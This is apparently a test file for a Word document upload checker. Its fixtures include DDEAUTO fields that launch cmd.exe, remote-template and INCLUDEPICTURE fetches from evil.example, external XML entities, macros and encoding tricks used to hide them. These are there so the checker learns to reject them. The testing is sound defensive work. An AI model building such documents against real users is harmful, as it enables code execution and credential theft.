import { readFile } from "node:fs/promises";
import path from "node:path";
import { expect, test } from "vitest";
import { listPieces, makeDoc, makeDocx, makeZip } from "./test-upload-files.ts";
import { createAllowance } from "./upload-allowance.ts";
import { hasActiveField } from "./upload-fields.ts";
import { detectFormat } from "./upload-format.ts";
import { hasActiveRelation } from "./upload-relations.ts";

const types = (content: string) =>
	`<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${content}</Types>`;
const relations = (...attributes: string[]) =>
	`<?xml version="1.0"?><Relationships>${attributes.map((text) => `<Relationship Id="a" ${text}/>`).join("")}</Relationships>`;
const kind = (name: string) =>
	`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
const settings = "word/_rels/settings.xml.rels";
const template = kind("attachedTemplate");

/** A document with a storage entry; with `isDeep`, below another one instead of at the top. */
function makeDocWith(name: string, isDeep = false): Buffer {
	const bytes = makeDoc(["WordDocument", "1Table", name]);
	const [directory, entry] = [1024, 128];
	bytes[directory + 3 * entry + 66] = 1;
	if (isDeep) bytes.writeUInt32LE(0xffffffff, directory + 2 * entry + 72);
	return bytes;
}

/** A document with the given text. */
function makeDocOf(text: string, encoding: BufferEncoding): Buffer {
	const bytes = makeDoc();
	bytes.write(text, 2048, encoding);
	return bytes;
}

/** A document whose text is a field's code in piece order, but not in file order. */
function makeDocInPieces(
	parts: readonly string[],
	encoding: "latin1" | "utf16le" = "latin1",
): Buffer {
	const isWide = encoding === "utf16le";
	const places = parts.map((_, index) => 1024 - index * 128);
	const bytes = makeDoc(
		undefined,
		undefined,
		0,
		listPieces(
			parts.map((part, index) => [places[index] ?? 0, part.length, isWide]),
		),
	);
	for (const [index, part] of parts.entries())
		bytes.write(part, wordAt + (places[index] ?? 0), encoding);
	return bytes;
}
/** A document whose field is intact only in the order of the allocation table. */
function makeDocOutOfOrder(): Buffer {
	const bytes = makeDoc();
	const table = 512;
	// Swaps the second and third of eight sectors.
	bytes.writeUInt32LE(4, table + 2 * 4);
	bytes.writeUInt32LE(3, table + 4 * 4);
	bytes.writeUInt32LE(5, table + 3 * 4);
	bytes.write("EAUTO c: \x14\x15", wordAt + 512, "latin1");
	bytes.write("\x13 DD", wordAt + 3 * 512 - 4, "latin1");
	return bytes;
}

/** A document whose text is so short that it is in the mini stream (MS-CFB, 2.4). */
function makeShortDoc(): Buffer {
	const bytes = makeDocInPieces(["\x13 D", "DE x\x14\x15"]);
	const [table, directory, entry, shared] = [512, 1024, 128, 18];
	const chain = Buffer.alloc(512);
	for (let sector = 0; sector < 32; sector++)
		chain.writeInt32LE(sector === 31 ? -2 : sector + 1, sector * 4);
	bytes.writeInt32LE(-2, table + shared * 4);
	bytes.writeUInt32LE(shared, 60);
	bytes.writeUInt32LE(2, directory + 116);
	bytes.writeUInt32LE(4096, directory + 120);
	bytes.writeUInt32LE(0, directory + entry + 116);
	bytes.writeUInt32LE(2048, directory + entry + 120);
	return Buffer.concat([bytes, chain]);
}

/** The offset of the document's text stream, in bytes. */
const wordAt = 1536;

/** A part of a document with consecutive field codes. */
const fieldsOf = (...instructions: string[]) =>
	`<w:document xmlns:w="w">${instructions.map((code) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`).join("")}</w:document>`;
const codeOf = (text: string) =>
	`<w:r><w:instrText>${text}</w:instrText></w:r>`;
const field = '\x13 DDEAUTO c:\\cmd.exe "/k x" \x14x\x15';
const honest = "DDE \x13 PAGE \x14 DDEAUTO \x15";

test.each([
	...Object.entries({
		"doc with a field that starts a program": makeDocOf(field, "latin1"),
		"doc with one in two bytes a letter": makeDocOf(field, "utf16le"),
		"doc with one in pieces": makeDocInPieces([
			"a\x13 D",
			"DEA",
			"UTO c:\\x",
			"\x14\x15",
		]),
		"doc with one in pieces of two bytes a letter": makeDocInPieces(
			["\x13 DDE", "AUTO c:\\x \x14\x15"],
			"utf16le",
		),
		"doc with one that has no end": makeDocInPieces(["\x13D", "DE x"]),
		"doc with one whose name another field shows": makeDocInPieces([
			"\x13 \x13QUOTE\x14DD\x15EAUTO x\x14\x15",
		]),
		"doc with one that another field shows": makeDocInPieces([
			"\x13PAGE\x14 \x13D",
			"DE x\x14\x15\x15",
		]),
		"doc with one in sectors that are out of order": makeDocOutOfOrder(),
		"doc with one in a stream that shares its sectors": makeShortDoc(),
		"doc with a picture on another machine's disk": makeDocInPieces([
			'\x13INCLUDEPICTURE "\\\\',
			'evil\\x.png"\x14\x15',
		]),
		"doc with one of quotes": makeDocOf('\x13\t"dde" x', "latin1"),
		doc: makeDocWith("Macros"),
		"doc whose macros lie deep": makeDocWith("_VBA_PROJECT_CUR", true),
		"doc with a project alone": makeDocWith("VBA", true),
		"doc with a file wrapped up in it": makeDocWith("\x01Ole10Native", true),
		"doc with a control": makeDocWith("\x03OCXNAME", true),
		"doc of Word 95 that is a template": makeDoc(["WordDocument"], 0xa5dc, 1),
		docx: makeDocx({ "word/vbaProject.bin": "x" }),
		"docx that shouts": makeDocx({ "WORD/VBAPROJECT.BIN": "x" }),
		"docx whose macros lie elsewhere": makeDocx({ "a/vbaProject1.bin": "x" }),
		"docx that leaves its folder": makeDocx({ "word/../../a.xml": "x" }),
		"docx with a control": makeDocx({ "word/activeX/activeX1.xml": "x" }),
		"docx with scripts of OpenDocument": makeDocx({ "Basic/a.xml": "x" }),
		"docx with other scripts": makeDocx({ "Scripts/python/a.py": "x" }),
		"docx with macros by another name": makeDocx(
			{
				"[Content_Types].xml": types(
					'<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
				),
				"word/a.bin": "x",
			},
			true,
		),
		"docx with macros by a name in other letters": makeDocx({
			"[Content_Types].xml": types(
				'<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vb&#97;Pr&#x6F;ject"/>',
			),
		}),
		"docx with macros said in UTF-16": makeDocx({
			"[Content_Types].xml": types(""),
			"word/_rels/document.xml.rels": Buffer.from(
				`\ufeff${relations(`${kind("vbaProject")} Target="a.bin"`)}`,
				"utf16le",
			),
		}),
		docm: makeZip({
			"[Content_Types].xml":
				'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
			"word/document.xml": "x",
		}),
		"docx with a sheet with macros": makeDocx({
			"word/embeddings/a.xlsm": "PK",
		}),
		"docx with a sheet with macros that calls itself otherwise": makeDocx({
			"word/embeddings/a.xlsx": makeZip({ "xl/vbaProject.bin": "x" }),
		}),
		"docx with an object that has macros": makeDocx(
			{ "word/embeddings/oleObject1.bin": makeDocWith("Macros") },
			true,
		),
		"docx with an object that is a file": makeDocx({
			"word/media/a.bin": makeDocWith("\x01Ole10Native", true),
		}),
		"docx with a program": makeDocx({
			"word/embeddings/a.dat": `MZ${"\0".repeat(99)}`,
		}),
		"docx with an object that is called a picture": makeDocx(
			{ "word/media/a.png": makeDocWith("Macros") },
			true,
		),
		"docx with rich text in it": makeDocx({ "word/a.rtf": "{\\rtf1}" }),
		"docx with rich text by another name": makeDocx({
			"[Content_Types].xml": types(
				'<Default Extension="dat" ContentType="application/rtf"/>',
			),
		}),
		"docx with a field that starts a program": makeDocx(
			{
				"word/header1.xml":
					'<w:hdr><w:fldSimple w:instr=" DDE cmd.exe x "/></w:hdr>',
			},
			true,
		),
		"docx with such a field in pieces": makeDocx({
			"word/footer1.xml":
				'<a:ftr><a:r><a:instrText xml:space="preserve"> DD</a:instrText></a:r><a:r><a:instrText>EAU&#84;O c:\\</a:instrText></a:r></a:ftr>',
		}),
		"docx with such a field behind another": makeDocx({
			"word/document.xml": fieldsOf(codeOf("PAGE"), codeOf("DDEAUTO c:\\x")),
		}),
		"docx with one whose name another field shows": makeDocx({
			"word/document.xml": fieldsOf(
				`${codeOf("D")}<w:fldSimple w:instr="QUOTE x"><w:t>DEA</w:t></w:fldSimple>${codeOf("UTO c:")}`,
			),
		}),
		"docx with one in a part of another ending": makeDocx({
			"word/evil.dat": fieldsOf(codeOf("DDE c:")),
		}),
		"docx with one behind much white space": makeDocx({
			"word/evil.dat": `${" ".repeat(600)}${fieldsOf(codeOf("DDE c:"))}`,
		}),
		"docx with a web page as a part": makeDocx({
			"word/_rels/document.xml.rels": relations(
				`${kind("aFChunk")} Target="part.html"`,
			),
		}),
		"docx whose field's prefix has a hyphen": makeDocx({
			"word/header1.xml":
				'<w-x:hdr><w-x:fldSimple w-x:instr="DDE cmd.exe x"/></w-x:hdr>',
		}),
		"docx whose field is in UTF-16 without a mark": makeDocx({
			"word/header1.xml": Buffer.from(
				'<w:hdr><w:fldSimple w:instr="DDE cmd.exe x"/></w:hdr>',
				"utf16le",
			),
		}),
		"docx whose relation hides behind another value": makeDocx({
			[settings]: relations(
				`Title=" Target='a' > " Target="&#104;ttp://x/a" ${template} TargetMode="External"`,
			),
		}),
		"docx with a picture on another machine's disk": makeDocx({
			"word/_rels/document.xml.rels": relations(
				`${kind("image")} Target="\\\\x\\a.png" TargetMode="External"`,
			),
		}),
		"docx with an object elsewhere": makeDocx(
			{
				"word/_rels/document.xml.rels": relations(
					`TargetMode='External' Target='http://x/a!' ${kind("oleObject")}`,
				),
			},
			true,
		),
	}),
	...[
		"http://x/a.dotm",
		"\\\\x\\a.dotm",
		"file://x/a.dotm",
		"//x/a",
		"mhtml:x",
	].map(
		(target) =>
			[
				`docx with its template at ${target}`,
				makeDocx({
					[settings]: relations(
						`${template} Target="${target}" TargetMode="External"`,
					),
				}),
			] as const,
	),
	...[
		'INCLUDEPICTURE "\\\\evil.example\\a.png" \\d',
		"INCLUDEPICTURE &quot;\\\\evil.example\\a.png&quot;",
		"INCLUDEPICTURE file://evil.example/a.png",
		'INCLUDETEXT "https://evil.example/a.docx"',
		'LINK htmlfile "http://evil.example/a.hta" \\a',
		"import //evil.example/a.png",
		`INCLUDETEXT ${"a".repeat(20_000)} \\\\evil.example\\a`,
	].map(
		(code) =>
			[
				`docx that fetches ${code.slice(0, 40)}`,
				makeDocx({ "word/document.xml": fieldsOf(codeOf(code)) }),
			] as const,
	),
	...["r-x", "r.x", "\u00e9", "r_1"].map(
		(prefix) =>
			[
				`docx whose relation's prefix is ${prefix}`,
				makeDocx({
					[settings]: `<${prefix}:Relationships><${prefix}:Relationship Id="a" ${template} Target="https://evil.example/a.dotm" TargetMode="External"/></${prefix}:Relationships>`,
				}),
			] as const,
	),
	...[
		"file:////evil.example/share/a.dotm",
		"FILE:///%5c%5cevil.example/a.dotm",
		"file:///%2fevil.example/a.dotm",
		"%5c%5cevil.example%5ca.dotm",
		"/%2fevil.example/a.dotm",
		"\\??\\UNC\\evil.example\\a.dotm",
	].map(
		(target) =>
			[
				`docx whose template is at ${target}`,
				makeDocx({
					[settings]: relations(
						`${template} Target="${target}" TargetMode="External"`,
					),
				}),
			] as const,
	),
])("a %s is rejected as active content", async (_name, bytes) => {
	expect(await detectFormat(bytes)).toBe("active");
});

test.each([
	...Object.entries({
		"doc with other fields, and the word": makeDocOf(honest, "latin1"),
		"doc with other fields in pieces": makeDocInPieces([
			"DDE \x13 PAGE ",
			"\x14 DDEAUTO",
			"\x15 DDE",
		]),
		"doc with them in two bytes": makeDocOf(honest, "utf16le"),
		doc: makeDoc(),
		"doc that is a template without macros": makeDoc(undefined, undefined, 1),
		"doc with an empty pool of objects": makeDocWith("ObjectPool"),
		docx: makeDocx({}, true),
		"docx with links, linked pictures and a template of its writer": makeDocx(
			{
				"word/_rels/document.xml.rels": relations(
					`${kind("hyperlink")} Target="https://example.com/?a=1&amp;b=2" TargetMode="External"`,
					`${kind("image")} Target="https://example.com/a.png" TargetMode="External"`,
					`${kind("styles")} Target="styles.xml"`,
				),
				[settings]: relations(
					`${template} Target="file:///C:\\Users\\li\\Templates\\CV.dotx" TargetMode="External"`,
					`${template} Target="C:\\CV.dotx" TargetMode="External"`,
				),
				"word/fonts/font1.odttf": "MZ",
				"word/media/image1.emf": Buffer.alloc(60_000_000),
				"word/header1.xml":
					'<w:hdr><w:p>DDE, DDEAUTO<w:instrText> PAGE </w:instrText><w:fldSimple w:instr="DATE"/></w:p></w:hdr>',
			},
			true,
		),
		"docx with a sheet and an object without macros": makeDocx(
			{
				"word/embeddings/a.xlsx": makeZip({ "xl/workbook.xml": "x" }),
				"word/embeddings/oleObject1.bin": makeDoc(["Workbook"], 0x0a),
				"word/printerSettings/printerSettings1.bin": "x",
			},
			true,
		),
	}),
	...[
		'INCLUDEPICTURE "https://example.com/a.png" \\* MERGEFORMATINET',
		'INCLUDEPICTURE "cid:image001.png@01" \\d',
		'INCLUDEPICTURE "C:\\\\me\\\\a.png"',
		'LINK Excel.Sheet.12 "C:\\\\me\\\\a.xlsx" "Sheet1!R1C1:R2C3" \\a \\f 4',
		'HYPERLINK "c:\\\\office\\\\a.doc"',
		'HYPERLINK "mailto:a.bodde@example.com"',
		"INCLUDE".padEnd(20_000, "D"),
	].flatMap(
		(code) =>
			[
				[
					`doc with ${code.slice(0, 30)}`,
					makeDocInPieces([
						`\x13 ${code.slice(0, 500)}`,
						" \x14\x01\x15 \\\\evil",
					]),
				],
				[
					`docx with ${code.slice(0, 30)}`,
					makeDocx({ "word/document.xml": fieldsOf(codeOf(code)) }),
				],
			] as const,
	),
])("a harmless %s is accepted", async (_name, bytes) => {
	expect(await detectFormat(bytes)).toMatch(/^docx?$/);
});

const svgType = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`;

test("an SVG picture may have the document type of its format, alone", async () => {
	const withPicture = (text: string) =>
		detectFormat(makeDocx({ "word/media/a.svg": text }));
	expect(await withPicture(`${svgType}<svg/>`)).toBe("docx");
	const subset = svgType.replace(">", "[<!ENTITY b 'c'>]>");
	expect(await withPicture(`${subset}<svg/>`)).toBe("broken");
	const second = `<!--${svgType}--><!DOCTYPE a [<!ENTITY b 'c'>]><a/>`;
	expect(await withPicture(second)).toBe("broken");
});

const dde = `<w:fldChar w:fldCharType='begin'/>${codeOf("DDEAUTO c:")}`;
const part = (content: string) =>
	`<w:document xmlns:w="w">${content}</w:document>`;
const wide = (text: string) => Buffer.from(text, "utf16le").swap16();
const inUtf7 = (text: string) =>
	`+${wide(text).toString("base64").replace(/=+$/, "")}-`;
/** Documents with a field whose element's name is not in the bytes of its part. */
const hiddenFields = Object.fromEntries(
	Object.entries({
		"names a field in an entity": `<!DOCTYPE a [<!ENTITY b "${dde.replaceAll("instr", "in&#115;tr")}">]>${part("&b;")}`,
		"names a field in an entity in UTF-16": wide(
			`\ufeff<!DOCTYPE a [<!ENTITY b "${dde.replaceAll("instr", "in&#115;tr")}">]>${part("&b;")}`,
		),
		"fetches an entity": `<!DOCTYPE a [<!ENTITY b SYSTEM "//evil/a">]>${part("&b;")}`,
		"fetches its document type": `<!DOCTYPE a SYSTEM "//evil/a">${part("")}`,
		"has a field in UTF-7": `<?xml version="1.0" encoding="utf-7"?>${inUtf7(part(dde))}`,
		"declares UTF-7 late": `<?xml version="1.0"${" ".repeat(5000)}encoding="utf-7"?>${inUtf7(part(dde))}`,
		"has a field in UTF-32": Buffer.from(
			[...part(dde)].flatMap((letter) => [letter.charCodeAt(0), 0, 0, 0]),
		),
		"has a field in EBCDIC": Buffer.from("4c6fa7949340a58599", "hex"),
	}).map(([name, bytes]) => [name, makeDocx({ "word/document.xml": bytes })]),
);

test.each(
	Object.entries({
		"is a doc without pieces": makeDoc(
			undefined,
			undefined,
			0,
			Buffer.alloc(30),
		),
		"is a doc without a table": makeDoc(["WordDocument", "0Table"]),
		"is a doc whose pieces are elsewhere": makeDoc(
			undefined,
			undefined,
			0,
			listPieces([[4000, 200]]),
		),
		"is a doc whose pieces lie over each other": makeDoc(
			undefined,
			undefined,
			0,
			listPieces(Array.from({ length: 9 }, () => [512, 1024] as const)),
		),
		"is a doc with two streams of one name": makeDoc([
			"WordDocument",
			"1Table",
			"1TABLE",
		]),
		"is a doc of fields that are too deep in one another": makeDoc(
			undefined,
			undefined,
			0,
			listPieces([[1024, 2200]]),
		).fill("\x13\x14", wordAt + 1024, wordAt + 3224, "latin1"),
		"is a docx in an unusual encoding": makeDocx({
			"word/document.xml": `<?xml version="1.0" encoding='UTF-7'?>${fieldsOf(codeOf("+AEQARA-E c:"))}`,
		}),
		...hiddenFields,
		"has a password": makeDoc(undefined, undefined, 0x100),
		"declares entities": makeDocx({
			[settings]: '<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>',
		}),
		"unpacks to 40 MB": makeDocx(
			{ [settings]: Buffer.alloc(40_000_000, 32) },
			true,
		),
		"cuts the code of a field apart": makeDocx({
			"word/footer1.xml":
				"<w:ftr><w:instrText>DD<!-- -->EAUTO</w:instrText></w:ftr>",
		}),
		"has two lists of its files": (() => {
			const bytes = makeDocx();
			bytes.writeUInt16LE(22, bytes.length - 2);
			return Buffer.concat([bytes, makeZip({}).fill(1, 20)]);
		})(),
		"has two files of one name": makeDocx({
			"Word/Document.xml": "<w:document/>",
		}),
		"says wrong where its files are": (() => {
			const bytes = makeDocx({ [settings]: relations() });
			bytes.writeUInt32LE(7, bytes.indexOf("PK\x01\x02") + 42);
			return bytes;
		})(),
	}),
)("a document that %s is rejected as broken", async (_name, bytes) => {
	expect(await detectFormat(bytes)).toBe("broken");
});

test.each([
	"<w:instrText>a</w:instrText>",
	"<instrText",
	" instr='",
	" instr=",
	` ${"a".repeat(3_999_990)}instr`,
	` instr${" ".repeat(3_999_990)}`,
	"<w:instrText>&#65;",
	"instr&#65;",
	`<w:instrText ${"a".repeat(3_999_980)}`,
	`<w:instrText ${"a='>' ".repeat(600_000)}`,
	"<w:t>a</w:t><w:fldChar w:fldCharType='begin'/>instr",
])(
	"4 MB of %.20s in a document are checked within ten seconds",
	async (unit) => {
		const bytes = Buffer.from(unit.repeat(Math.floor(4_000_000 / unit.length)));
		const start = performance.now();
		try {
			await hasActiveField(bytes, createAllowance());
		} catch (error) {
			expect(error).toBeInstanceOf(Error);
		}
		expect(performance.now() - start).toBeLessThan(10_000);
	},
);

test.each([
	"<Relationship ",
	"<Relationship Type=",
	`<Relationship ${"a".repeat(999_000)}>`,
	`<Relationship a${" ".repeat(999_000)}>`,
	"<Relationship a='",
	`<Relationship ${"a".repeat(9)}="&#65;"/>`,
	"<Relationship Type='a' TargetMode='External' Target='c:/x'/>",
])("1 MB of %.20s is checked within ten seconds", (unit) => {
	const bytes = Buffer.from(unit.repeat(Math.floor(1_000_000 / unit.length)));
	const start = performance.now();
	expect(hasActiveRelation(bytes)).toBe(false);
	expect(performance.now() - start).toBeLessThan(10_000);
});

test("a Word 97 document by LibreOffice with page numbers, a date and links is accepted", async () => {
	const file = path.join(import.meta.dirname, "test-libreoffice.doc");
	expect(await detectFormat(await readFile(file))).toBe("doc");
});
